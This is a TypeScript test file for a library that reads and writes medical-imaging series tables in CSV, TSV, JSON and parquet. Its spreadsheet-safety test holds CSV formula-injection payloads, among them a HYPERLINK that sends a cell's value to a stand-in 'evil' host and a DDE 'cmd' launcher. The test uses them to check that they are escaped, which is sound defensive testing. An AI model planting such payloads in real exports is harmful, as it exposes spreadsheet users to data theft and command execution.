import { mkdtemp, readFile, readdir, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { reduceToSeries } from '../series/reduce/reducer.js';
import { setCsvFormulaPolicy, type Row } from '@msc/core';
import { createTableWriter, readRows, readTable, readTableAll, readTableColumns, writeTable } from './index.js';
import type { ColumnBatch } from './types.js';

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'msc-table-'));
});

const AWKWARD: Row[] = [
  { study_uid: '1.2.3', series_uid: '1.2.3.4', series_description: 'T2, "tse" tra', image_type: 'ORIGINAL PRIMARY M ND', number_of_images: 24 },
  { study_uid: '1.2.3', series_uid: '1.2.3.5', series_description: 'line\nbreak\r\nand\ttab', image_type: '-', number_of_images: 1.5 },
  { study_uid: '1.2.3', series_uid: '1.2.3.6', series_description: 'Ünïcødé 弥散 — ADC', image_type: '', number_of_images: null },
  { study_uid: '1.2.3', series_uid: '1.2.3.7', series_description: '"', image_type: ',', number_of_images: 0 },
];
const COLUMNS = ['study_uid', 'series_uid', 'series_description', 'image_type', 'number_of_images'];

/** Text formats keep numbers as their text; parquet keeps them as numbers in numeric columns. */
function asText(rows: readonly Row[]): Row[] {
  return rows.map((row) => Object.fromEntries(Object.entries(row).map(([key, value]) => [key, value === null ? '' : String(value)])));
}

describe('round trips', () => {
  it.each(['csv', 'tsv'])('%s keeps awkward text exactly', async (extension) => {
    const path = join(dir, `awkward.${extension}`);
    await writeTable(path, COLUMNS, AWKWARD);
    const table = await readTableAll(path);
    expect(table.columns).toEqual(COLUMNS);
    expect(table.rows).toEqual(asText(AWKWARD));
  });

  it.each(['json', 'jsonl'])('%s keeps values and types', async (extension) => {
    const path = join(dir, `awkward.${extension}`);
    await writeTable(path, COLUMNS, AWKWARD);
    expect((await readTableAll(path)).rows).toEqual(AWKWARD);
  });

  it('parquet keeps text, numbers and nulls', async () => {
    const path = join(dir, 'awkward.parquet');
    await writeTable(path, COLUMNS, AWKWARD);
    const table = await readTableAll(path);
    expect(table.columns).toEqual(COLUMNS);
    expect(table.rows).toEqual(AWKWARD);
  });

  it('parquet keeps text of plain and dictionary pages: nulls, empty, non-ASCII (msc patch of hyparquet)', async () => {
    const path = join(dir, 'text-pages.parquet');
    const odd = ['ü', '弥散', '😀', 'x\ufeff', '', ' x ', 'a\u0000b'];
    const rows: Row[] = Array.from({ length: 3000 }, (_, i) => ({
      series_uid: i % 11 === 0 ? null : i % 7 === 0 ? `${odd[(i / 7) % odd.length]}${i}` : `1.2.${i}`,
      series_description: i % 13 === 0 ? null : `T2 ${odd[i % odd.length]}`,
    }));
    await writeTable(path, ['series_uid', 'series_description'], rows);
    // The file has what the patched paths read: a PLAIN page of unique text, a dictionary page of repeated text.
    const { asyncBufferFromFile, parquetMetadataAsync } = await import('hyparquet');
    const metadata = await parquetMetadataAsync(await asyncBufferFromFile(path));
    const encodings = metadata.row_groups[0]!.columns.map((column) => column.meta_data!.encodings);
    expect(encodings[0]).not.toContain('RLE_DICTIONARY');
    expect(encodings[1]).toContain('RLE_DICTIONARY');
    expect((await readTableAll(path)).rows).toEqual(rows);
  });

  it('parquet hands dictionary columns out as values and indexes when asked (dictionaryColumns), their cells made when read', async () => {
    const path = join(dir, 'dictionary.parquet');
    const rows: Row[] = Array.from({ length: 2000 }, (_, i) => ({
      series_uid: `1.2.${i}`,
      series_description: i % 9 === 0 ? null : ['T2 tra', 'ADC', 'Ünïcødé'][i % 3]!,
      number_of_images: i % 5 === 0 ? null : [80, 90.5][i % 2]!,
    }));
    await writeTable(path, ['series_uid', 'series_description', 'number_of_images'], rows);
    const batches: ColumnBatch[] = [];
    for await (const batch of readTable(path, { dictionaryColumns: true })) batches.push(batch);
    expect(batches).toHaveLength(1);
    const [batch] = batches;
    expect(batch!.dictionary?.[0]).toBeUndefined(); // unique UIDs: plain pages
    const description = batch!.dictionary?.[1];
    expect(description).toBeDefined();
    expect([...description!.indexes].map((k) => (k < 0 ? null : description!.values[k]))).toEqual(rows.map((row) => row.series_description));
    // The column's cells as every reader sees them, made from the dictionary when first read.
    expect(batch!.data[1]).toEqual(rows.map((row) => row.series_description));
    expect(batch!.data[2]).toEqual(rows.map((row) => row.number_of_images)); // a DOUBLE column's
    expect((await readTableAll(path)).rows).toEqual(rows);
  });

  it('parquet dictionary columns of several pages are one dictionary column, read as the plain reader reads them', async () => {
    const { parquetWriteFile } = await import('hyparquet-writer');
    const path = join(dir, 'pages.parquet');
    const n = 3000;
    const repeated = Array.from({ length: n }, (_, i) => (i % 17 === 0 ? null : `description ${i % 40} ${'x'.repeat(i % 7)}`));
    const distinct = Array.from({ length: n }, (_, i) => (i % 5 === 0 ? null : `1.2.840.${i}`));
    await parquetWriteFile({
      filename: path,
      columnData: [
        { name: 'series_description', data: repeated, type: 'STRING', nullable: true },
        { name: 'series_uid', data: distinct, type: 'STRING', nullable: true },
      ],
      pageSize: 2000,
    });
    const { asyncBufferFromFile, parquetMetadataAsync } = await import('hyparquet');
    const metadata = await parquetMetadataAsync(await asyncBufferFromFile(path));
    const [stats] = metadata.row_groups[0]!.columns.map((column) => column.meta_data!.encoding_stats ?? []);
    expect(stats!.find((stat) => stat.page_type === 'DATA_PAGE_V2')!.count).toBeGreaterThan(1);
    const batches: ColumnBatch[] = [];
    for await (const batch of readTable(path, { dictionaryColumns: true })) batches.push(batch);
    // A batch per row group, each one dictionary column of its rows' indexes.
    for (const batch of batches) {
      expect(batch.dictionary?.[0]?.indexes).toHaveLength(batch.length);
      expect(batch.dictionary?.[1]).toBeUndefined();
    }
    expect([0, 1].map((c) => batches.flatMap((batch) => batch.data[c]!))).toEqual([repeated, distinct]);
  });

  it.each(['parquet', 'csv', 'jsonl'])('readTableColumns names the columns of a %s table as its batches do', async (extension) => {
    const path = join(dir, `columns.${extension}`);
    await writeTable(path, COLUMNS, AWKWARD);
    expect(await readTableColumns(path)).toEqual(COLUMNS);
  });

  it('creates missing output folders for every format', async () => {
    for (const extension of ['csv', 'tsv', 'json', 'jsonl', 'parquet']) {
      const path = join(dir, 'new', extension, `out.${extension}`);
      await writeTable(path, COLUMNS, AWKWARD.slice(0, 1));
      expect((await readTableAll(path)).rows, extension).toHaveLength(1);
    }
  });

  it('writes an empty table that reads back with its header', async () => {
    for (const extension of ['csv', 'tsv', 'json', 'jsonl', 'parquet']) {
      const path = join(dir, `empty.${extension}`);
      await writeTable(path, COLUMNS, []);
      expect((await readTableAll(path)).rows, extension).toEqual([]);
    }
  });
});

describe('streaming', () => {
  it.each(['tsv', 'csv', 'parquet', 'jsonl'])('reads a large %s in batches with projection', async (extension) => {
    const path = join(dir, `large.${extension}`);
    const count = extension === 'parquet' || extension === 'jsonl' ? 30_000 : 100_000;
    const rows = function* (): Generator<Row> {
      for (let i = 0; i < count; i++) {
        // Every 7th row has a quoted multi-line value, so some straddle the reader's chunk edges.
        yield {
          study_uid: `s${i % 97}`,
          series_uid: `x${i}`,
          echo_time: String(i % 113),
          series_description: i % 7 === 0 ? `multi\nline "${i}", ok` : `plain ${i}`,
        };
      }
    };
    await writeTable(path, ['study_uid', 'series_uid', 'echo_time', 'series_description'], rows(), { rowGroupSize: 10_000 });
    let seen = 0;
    let batches = 0;
    for await (const batch of readTable(path, { columns: ['series_uid', 'series_description'], batchSize: 5_000 })) {
      batches += 1;
      expect(batch.columns).toEqual(['series_uid', 'series_description']);
      // one comparison per batch column (a per-cell expect costs more than the reading)
      const indices = Array.from({ length: batch.length }, (_, r) => seen + r);
      expect(batch.data[0]).toEqual(indices.map((i) => `x${i}`));
      expect(batch.data[1]).toEqual(indices.map((i) => (i % 7 === 0 ? `multi\nline "${i}", ok` : `plain ${i}`)));
      seen += batch.length;
    }
    expect(seen).toBe(count);
    expect(batches).toBeGreaterThan(1);
  });
});

describe("reading other tools' files", () => {
  it('normalises column names as the original does', async () => {
    const path = join(dir, 'names.csv');
    await writeFile(path, '\ufeffStudy UID,Series  UID, Series Description \r\n1,2,t2 tra\r\n');
    const table = await readTableAll(path);
    expect(table.columns).toEqual(['study_uid', 'series_uid', 'series_description']);
    expect(table.rows).toEqual([{ study_uid: '1', series_uid: '2', series_description: 't2 tra' }]);
  });

  it('reads a parquet file written by parquetjs-lite (an independent writer, gzip-compressed)', async () => {
    const parquetjs = (await import('parquetjs-lite')).default;
    const path = join(dir, 'parquetjs.parquet');
    const schema = new parquetjs.ParquetSchema({
      study_uid: { type: 'UTF8' },
      series_uid: { type: 'UTF8' },
      echo_time: { type: 'UTF8', optional: true, compression: 'GZIP' },
      number_of_images: { type: 'INT64', optional: true },
    });
    const writer = await parquetjs.ParquetWriter.openFile(schema, path);
    await writer.appendRow({ study_uid: '1', series_uid: '1.1', echo_time: '81', number_of_images: 20 });
    await writer.appendRow({ study_uid: '1', series_uid: '1.2', number_of_images: 3 });
    await writer.close();
    expect((await readTableAll(path)).rows).toEqual([
      { study_uid: '1', series_uid: '1.1', echo_time: '81', number_of_images: 20 },
      { study_uid: '1', series_uid: '1.2', echo_time: null, number_of_images: 3 },
    ]);
  });

  it('reads an instance table in the original conventions and reduces it to series rows', async () => {
    const path = join(dir, 'original.tsv');
    const header = 'study_uid\tseries_uid\tpatient_id\tdiffusion_bvalue\tdiffusion_bvalue_ge\timage_type\tseries_description\tnumber_of_images\tfile_path';
    const lines = [
      '1.9\t1.9.1\tPX\t-\t1000\tORIGINAL PRIMARY OTHER\tDWI b1000\t2\tdata/a/1.dcm',
      '1.9\t1.9.1\tPX\t-\t0\tORIGINAL PRIMARY OTHER\tDWI b1000\t2\tdata/a/2.dcm',
      '1.9\t1.9.2\tPX\t-\t-\tDERIVED PRIMARY ADC ADC\tADC\t1\tdata/b/1.dcm',
    ];
    await writeFile(path, `${header}\n${lines.join('\n')}\n`);
    const rows: Row[] = [];
    for await (const row of readRows(path)) rows.push(row);
    expect(reduceToSeries(rows)).toEqual([
      {
        study_uid: '1.9',
        series_uid: '1.9.1',
        patient_id: 'PX',
        diffusion_bvalue: '-',
        diffusion_bvalue_ge: '0 1000',
        image_type: 'ORIGINAL PRIMARY OTHER',
        series_description: 'DWI b1000',
        number_of_images: 2,
      },
      {
        study_uid: '1.9',
        series_uid: '1.9.2',
        patient_id: 'PX',
        diffusion_bvalue: '-',
        diffusion_bvalue_ge: '-',
        image_type: 'DERIVED PRIMARY ADC ADC',
        series_description: 'ADC',
        number_of_images: 1,
      },
    ]);
  });
});

describe("nested JSON (the original's tree)", () => {
  it('reads patient → study → series → column → values as series rows', async () => {
    const path = join(dir, 'nested.json');
    const tree = {
      P1: {
        '1.2': {
          '1.2.3': { diffusion_bvalue: ['800', '50', '0', '50'], image_type: ['ORIGINAL\\PRIMARY'], number_of_images: [12], 'Series Description': 'ep2d diff' },
        },
      },
      P2: { '7': { '7.1': { diffusion_bvalue: [], image_type: [null] } } },
    };
    await writeFile(path, JSON.stringify(tree));
    expect((await readTableAll(path)).rows).toEqual([
      {
        patient_id: 'P1',
        study_uid: '1.2',
        series_uid: '1.2.3',
        diffusion_bvalue: '0 50 800',
        image_type: 'ORIGINAL PRIMARY',
        number_of_images: 12,
        series_description: 'ep2d diff',
      },
      // Columns the second series lacks read as null (a table has one set of columns).
      { patient_id: 'P2', study_uid: '7', series_uid: '7.1', diffusion_bvalue: '-', image_type: '-', number_of_images: null, series_description: null },
    ]);
  });

  it('writes the tree and reads it back to the same series rows', async () => {
    const path = join(dir, 'nested-out.json');
    const rows: Row[] = [
      { patient_id: 'P1', study_uid: 's', series_uid: 'a', echo_time: '81' },
      { patient_id: 'P1', study_uid: 's', series_uid: 'a', echo_time: '90' },
      { patient_id: 'P1', study_uid: 's', series_uid: 'b', echo_time: '3' },
    ];
    await writeTable(path, ['patient_id', 'study_uid', 'series_uid', 'echo_time'], rows, { nested: true });
    expect(JSON.parse(await readFile(path, 'utf8'))).toEqual({ P1: { s: { a: { echo_time: ['81', '90'] }, b: { echo_time: ['3'] } } } });
    expect((await readTableAll(path)).rows).toEqual([
      { patient_id: 'P1', study_uid: 's', series_uid: 'a', echo_time: '81 90' },
      { patient_id: 'P1', study_uid: 's', series_uid: 'b', echo_time: '3' },
    ]);
  });
});

describe('errors', () => {
  it('names unknown extensions, missing files and malformed content', async () => {
    await expect(readTableAll(join(dir, 'table.xlsx'))).rejects.toMatchObject({ code: 'E_TABLE_FORMAT', message: expect.stringContaining('table.xlsx') });
    for (const extension of ['csv', 'tsv', 'parquet', 'json', 'jsonl']) {
      await expect(readTableAll(join(dir, `missing.${extension}`)), extension).rejects.toMatchObject({ code: 'E_INPUT_NOT_FOUND' });
    }
    const bad = async (name: string, content: string, message: RegExp) => {
      const path = join(dir, name);
      await writeFile(path, content);
      await expect(readTableAll(path), name).rejects.toMatchObject({ code: 'E_TABLE_FORMAT', message: expect.stringMatching(message) });
    };
    await bad('ragged.csv', 'a,b\n1,2,3\n', /line 2 has 3 fields but the header has 2/);
    await bad('unclosed.csv', 'a,b\n1,"open\n', /not closed/);
    await bad('empty.csv', '', /empty/);
    await bad('bad.json', '{"a": ', /not valid JSON/);
    await bad('bad.jsonl', '{"a":1}\n[1]\n', /line 2 is not a row object/);
    await bad('bad.parquet', 'PAR1 this is not parquet', /not a readable parquet file/);
  });

  it('refuses text in a numeric parquet column instead of losing it', async () => {
    const path = join(dir, 'mixed.parquet');
    await expect(writeTable(path, ['study_uid', 'number_of_images'], [{ study_uid: 'a', number_of_images: 'many' }])).rejects.toMatchObject({
      code: 'E_BAD_DATA',
    });
    expect(await readdir(dir)).not.toContain('mixed.parquet');
  });
});

describe('atomic writes', () => {
  it.each(['csv', 'parquet', 'json', 'jsonl'])('%s: abort leaves the previous file and no temporary', async (extension) => {
    const sub = await mkdtemp(join(dir, 'atomic-'));
    const path = join(sub, `out.${extension}`);
    await writeFile(path, 'previous');
    const writer = await createTableWriter(path, COLUMNS);
    await writer.write(AWKWARD);
    await writer.abort();
    expect(await readFile(path, 'utf8')).toBe('previous');
    expect(await readdir(sub)).toEqual([`out.${extension}`]);
  });
});

describe('spreadsheet-safe CSV (finding F10)', () => {
  const hostile = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+cmd|' /C calc'!A0", '-2+3+cmd', '@SUM(A1:A2)', '\tTAB'];
  const safe = ['-', '-0.5', '-1 0 0 0 1 0', '+3', 't2_tse_tra', "'quoted already"];

  it('writes formula cells with a leading quote, leaves numbers and the missing marker, and reads every cell back as it was', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'msc-formulas-'));
    const rows: Row[] = [...hostile, ...safe].map((text, i) => ({ study_uid: '1.2', series_uid: `1.2.${i}`, series_description: text }));
    for (const ext of ['csv', 'tsv']) {
      const path = join(dir, `t.${ext}`);
      await writeTable(path, ['study_uid', 'series_uid', 'series_description'], rows);
      const written = await readFile(path, 'utf8');
      for (const text of hostile) expect(written).toContain(`'${text.startsWith('=') && ext === 'csv' ? '=HYPERLINK(""' : text.slice(0, 4)}`);
      for (const line of written.split('\n').slice(1, hostile.length + 1)) expect(line.split(ext === 'csv' ? ',' : '\t')[2]).toMatch(/^"?'/);
      for (const text of safe) expect(written.split('\n').some((line) => line.endsWith(ext === 'csv' ? `,${text}` : `\t${text}`))).toBe(true);
      expect((await readTableAll(path)).rows.map((row) => row.series_description)).toEqual(rows.map((row) => row.series_description));
      const series = await reduceFile(path);
      // The series reducer trims cells (its own cleaning): compare trimmed.
      expect(new Set(series)).toEqual(new Set(rows.map((row) => String(row.series_description).trim())));
    }
  });

  it("writes cells raw under the policy 'keep' (--csv-formulas keep)", async () => {
    const dir = await mkdtemp(join(tmpdir(), 'msc-formulas-'));
    const path = join(dir, 'raw.csv');
    setCsvFormulaPolicy('keep');
    try {
      await writeTable(path, ['series_uid', 'series_description'], [{ series_uid: '1.2.3', series_description: '@SUM(A1:A2)' }]);
    } finally {
      setCsvFormulaPolicy('escape');
    }
    expect(await readFile(path, 'utf8')).toBe('series_uid,series_description\n1.2.3,@SUM(A1:A2)\n');
  });
});

/** The series descriptions the threaded series reader (scan-delimited) gives for a table. */
async function reduceFile(path: string): Promise<string[]> {
  const { readSeriesTable } = await import('../series/read-series.js');
  const table = await readSeriesTable(path);
  return table.rows.map((row) => String(row.series_description));
}
